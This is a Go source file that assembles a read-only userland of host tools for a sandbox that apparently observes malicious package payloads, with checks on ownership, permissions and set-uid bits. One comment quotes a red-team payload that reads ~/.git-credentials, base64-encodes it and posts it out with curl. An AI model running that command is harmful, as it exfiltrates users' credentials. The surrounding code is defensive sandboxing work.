package pyrt

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
)

// UserlandTools are the host programs a userland holds, when the host has
// them: a shell and the core utilities that test suites and build steps
// call (subprocess with shell=True runs /bin/sh; shebangs use
// /usr/bin/env), and the network and encoding tools payloads call. The
// list is fixed, so a run's root does not depend on what else the host
// has installed.
var UserlandTools = []string{
	"sh", "bash", "env", "echo", "printf", "true", "false", "test", "[",
	"cat", "ls", "mkdir", "rmdir", "rm", "cp", "mv", "ln", "touch", "chmod",
	"pwd", "uname", "id", "whoami", "hostname", "date", "sleep",
	"dirname", "basename", "readlink", "realpath", "mktemp", "stat",
	"head", "tail", "wc", "sort", "uniq", "tr", "cut", "tee", "seq", "expr", "nproc",
	"sed", "grep", "awk", "find", "xargs", "diff", "cmp", "which",
	"tty", "script",
	// What install scripts and the payloads of malicious packages call
	// (docs/malware.md): without them a payload dies at "not found"
	// before it shows what it would fetch, run or send.
	"base64", "od", "xxd", "gzip", "tar", "ps", "kill", "nohup", "timeout",
	"curl", "wget", "dig", "nslookup", "host", "ping", "nc",
	// Red team, session 24: `dd if=~/.git-credentials | base64 | curl -d @-`
	// died at dd, and a payload that reads, packs or encrypts with these
	// died so too.
	"dd", "base32", "hexdump", "bzip2", "xz", "openssl",
}

// userlandDirs are where a tool is looked for, each spelling bound when it
// exists: merged-/usr systems reach /bin through a link, older ones have
// the shell in /bin and env in /usr/bin.
var userlandDirs = []string{"/usr/bin", "/bin"}

// Userland is a small read-only userland taken from the host: the tools
// of UserlandTools that exist, with their shared libraries, as paths to
// bind and links to recreate, in the manner of Runtime (see
// Runtime.WithUserland).
type Userland struct {
	// Tools are the names found and bound, in UserlandTools' order.
	Tools []string `json:"tools"`
	// Skipped are the names left out, each with the reason ("not found",
	// "set-uid", ...). A host without a tool is not an error.
	Skipped []string `json:"skipped,omitempty"`
	// Paths are the host paths to bind read-only: each tool's real file,
	// the directories of its libraries and of the ELF interpreter, and
	// /etc/ld.so.cache. Real and minimal, as Runtime.Paths.
	Paths []string `json:"paths"`
	// Links are the symlinks met on the way (/bin -> usr/bin,
	// /usr/bin/sh -> dash, /etc/alternatives/awk -> ...), outside Paths.
	Links map[string]string `json:"links"`
	// Missing lists shared-library sonames that were needed but not found.
	Missing []string `json:"missing,omitempty"`
}

// Summary describes u for a result's layers: "sh + 50 tools (read-only,
// no set-uid): bash env ...", then what was skipped.
func (u *Userland) Summary() string {
	var b strings.Builder
	others := slices.DeleteFunc(slices.Clone(u.Tools), func(s string) bool { return s == "sh" })
	if slices.Contains(u.Tools, "sh") {
		b.WriteString("sh + ")
	} else {
		b.WriteString("no sh, ")
	}
	fmt.Fprintf(&b, "%d tools (read-only, no set-uid): %s", len(others), strings.Join(others, " "))
	if len(u.Skipped) > 0 {
		fmt.Fprintf(&b, "; skipped: %s", strings.Join(u.Skipped, ", "))
	}
	return b.String()
}

// ResolveUserland finds UserlandTools on the host. A tool is bound only
// when its real file is a regular file owned by root, executable by
// everyone, writable by root alone, without set-uid or set-gid bits, and
// either an ELF executable or a script whose #! interpreter is a bound
// ELF tool; anything else is skipped with the reason. The result is cached
// under cacheDir (if not empty) while /usr/bin, /bin, every tool and every
// library keep their identity.
func ResolveUserland(cacheDir string) (*Userland, error) {
	if cacheDir != "" {
		if u := loadUserland(cacheDir); u != nil {
			return u, nil
		}
	}
	u, files, deps, err := resolveUserland()
	if err != nil {
		return nil, err
	}
	if cacheDir != "" {
		storeUserland(cacheDir, files, deps, u)
	}
	return u, nil
}

// tool is one name being resolved.
type tool struct {
	name    string
	spelled []string // the paths found (in userlandDirs order)
	real    string   // the one real file all of them reach
	script  string   // the #! interpreter, for a script
}

// resolveUserland returns the userland, the real files of its tools and
// the files whose identity guards a cached copy.
func resolveUserland() (u *Userland, files, deps []string, err error) {
	lw := newLinkWalker()
	u = &Userland{}
	deps = slices.Clone(userlandDirs)
	var tools []*tool
	bound := map[string]bool{} // real paths of bound ELF tools
	for _, name := range UserlandTools {
		t, why := findTool(lw, name)
		if why != "" {
			u.Skipped = append(u.Skipped, name+": "+why)
			continue
		}
		tools = append(tools, t)
		if t.script == "" {
			bound[t.real] = true
		}
	}
	var paths, elfs []string
	for _, t := range tools {
		if t.script != "" {
			// A script runs only if its interpreter is here too.
			interp, err := lw.walk(t.script)
			if err != nil || !bound[interp] {
				u.Skipped = append(u.Skipped, t.name+": script for "+t.script+", not bound")
				continue
			}
		} else if !slices.Contains(elfs, t.real) {
			elfs = append(elfs, t.real)
		}
		u.Tools = append(u.Tools, t.name)
		paths = append(paths, t.real)
		files = append(files, t.real)
		deps = append(deps, t.spelled...)
	}
	libs, err := walkObjects(elfs)
	if err != nil {
		return nil, nil, nil, fmt.Errorf("userland: %w", err)
	}
	u.Missing = libs.missing
	if libs.interp != "" {
		if real, err := lw.walk(libs.interp); err == nil {
			paths = append(paths, filepath.Dir(real))
		}
	}
	for _, l := range libs.found {
		if real, err := lw.walk(l); err == nil {
			paths = append(paths, filepath.Dir(real))
			deps = append(deps, real)
		}
	}
	if len(elfs) > 0 {
		if real, err := lw.walk(ldCache); err == nil {
			paths = append(paths, real)
			deps = append(deps, ldCache)
		}
	}
	u.Paths = minimal(paths)
	u.Links = lw.outside(u.Paths)
	return u, files, deps, nil
}

// findTool looks for name in userlandDirs and checks the file it reaches.
// It returns the reason to skip it, or "".
func findTool(lw *linkWalker, name string) (*tool, string) {
	t := &tool{name: name}
	for _, dir := range userlandDirs {
		p := filepath.Join(dir, name)
		if _, err := os.Lstat(p); err != nil {
			continue
		}
		// Walk a scratch walker first: the links of a tool that is then
		// refused must not enter the root.
		w := newLinkWalker()
		real, err := w.walk(p)
		if err != nil {
			return nil, "unresolvable link"
		}
		if t.real != "" && real != t.real {
			return nil, "differs between " + t.spelled[0] + " and " + p
		}
		if why := checkTool(real); why != "" {
			return nil, why
		}
		t.real = real
		t.spelled = append(t.spelled, p)
		for k, v := range w.links {
			lw.links[k] = v
		}
	}
	if t.real == "" {
		return nil, "not found"
	}
	if !isELF(t.real) {
		interp, ok := shebang(t.real)
		if !ok {
			return nil, "neither ELF nor a #! script"
		}
		t.script = interp
	}
	return t, ""
}

// checkTool returns why the real file p may not be bound, or "".
func checkTool(p string) string {
	fi, err := os.Stat(p)
	if err != nil {
		return "unreadable"
	}
	m := fi.Mode()
	switch {
	case !m.IsRegular():
		return "not a regular file"
	case m&(os.ModeSetuid|os.ModeSetgid) != 0:
		return "set-uid or set-gid"
	case m.Perm()&0o001 == 0:
		return "not executable by everyone"
	case m.Perm()&0o022 != 0:
		return "writable by others than its owner"
	}
	if st, ok := fi.Sys().(*syscall.Stat_t); !ok || st.Uid != 0 {
		return "not owned by root"
	}
	return ""
}

// shebang returns the interpreter of a #! script: its first word, which
// must be an absolute path.
func shebang(p string) (string, bool) {
	f, err := os.Open(p)
	if err != nil {
		return "", false
	}
	defer f.Close()
	line, err := bufio.NewReaderSize(f, 256).ReadSlice('\n')
	if err != nil || !bytes.HasPrefix(line, []byte("#!")) {
		return "", false
	}
	fields := strings.Fields(string(line[2:]))
	if len(fields) == 0 || !filepath.IsAbs(fields[0]) {
		return "", false
	}
	return fields[0], true
}

// WithUserland returns a copy of rt that also binds u: the paths of both,
// minimal, and the links of both that lie outside them.
func (rt *Runtime) WithUserland(u *Userland) *Runtime {
	out := *rt
	out.Paths = minimal(append(slices.Clone(rt.Paths), u.Paths...))
	lw := newLinkWalker()
	for k, v := range rt.Links {
		lw.links[k] = v
	}
	for k, v := range u.Links {
		lw.links[k] = v
	}
	out.Links = lw.outside(out.Paths)
	return &out
}

// userlandFormat changes whenever the cached data or its meaning changes.
const userlandFormat = 1

type userlandEntry struct {
	Format   int       `json:"format"`
	Tools    string    `json:"tools"` // UserlandTools, joined
	Files    []string  `json:"files"` // the tools' real files
	Deps     []dep     `json:"deps"`
	Userland *Userland `json:"userland"`
}

func userlandCacheFile(dir string) string {
	sum := sha256.Sum256([]byte(strings.Join(UserlandTools, "\x00")))
	return filepath.Join(dir, "userland-"+hex.EncodeToString(sum[:12])+".json")
}

func loadUserland(dir string) *Userland {
	b, err := os.ReadFile(userlandCacheFile(dir))
	if err != nil {
		return nil
	}
	var e userlandEntry
	if err := json.Unmarshal(b, &e); err != nil {
		return nil
	}
	if e.Format != userlandFormat || e.Tools != strings.Join(UserlandTools, "\x00") || e.Userland == nil || len(e.Deps) == 0 {
		return nil
	}
	for _, d := range e.Deps {
		if d.ID == "" || fileID(d.Path) != d.ID {
			return nil
		}
	}
	// A chmod or chown leaves what fileID compares as it was: the checks
	// of the tools themselves are made again.
	for _, f := range e.Files {
		if checkTool(f) != "" {
			return nil
		}
	}
	return e.Userland
}

func storeUserland(dir string, files, deps []string, u *Userland) {
	e := userlandEntry{Format: userlandFormat, Tools: strings.Join(UserlandTools, "\x00"), Files: files, Userland: u}
	for _, p := range deps {
		id := fileID(p)
		if id == "" {
			return
		}
		e.Deps = append(e.Deps, dep{Path: p, ID: id})
	}
	b, err := json.MarshalIndent(&e, "", "  ")
	if err == nil {
		err = writeFileAtomic(dir, userlandCacheFile(dir), b)
	}
	if err != nil {
		slog.Debug("pyrt: userland cache not written", "dir", dir, "err", err)
	}
}

// Files returns what a sandbox that copies the userland instead of binding
// it needs (the micro-VM's image): every spelling of each tool in
// /usr/bin and /bin (the copier keeps the links on the way), the shared
// libraries of its ELF tools as the loader finds them, their ELF
// interpreter and /etc/ld.so.cache. A tool whose file changed since u was
// resolved to something it may not bind is an error.
func (u *Userland) Files() ([]string, error) {
	var files, elfs []string
	for _, name := range u.Tools {
		for _, dir := range userlandDirs {
			p := filepath.Join(dir, name)
			if _, err := os.Lstat(p); err != nil {
				continue
			}
			real, err := filepath.EvalSymlinks(p)
			if err != nil {
				return nil, fmt.Errorf("userland: %s: %w", p, err)
			}
			if why := checkTool(real); why != "" {
				return nil, fmt.Errorf("userland: %s: %s", p, why)
			}
			files = append(files, p)
			if isELF(real) && !slices.Contains(elfs, real) {
				elfs = append(elfs, real)
			}
		}
	}
	libs, err := walkObjects(elfs)
	if err != nil {
		return nil, fmt.Errorf("userland: %w", err)
	}
	if libs.interp != "" {
		files = append(files, libs.interp)
	}
	files = append(files, libs.found...)
	if len(elfs) > 0 {
		if _, err := os.Stat(ldCache); err == nil {
			files = append(files, ldCache)
		}
	}
	return files, nil
}
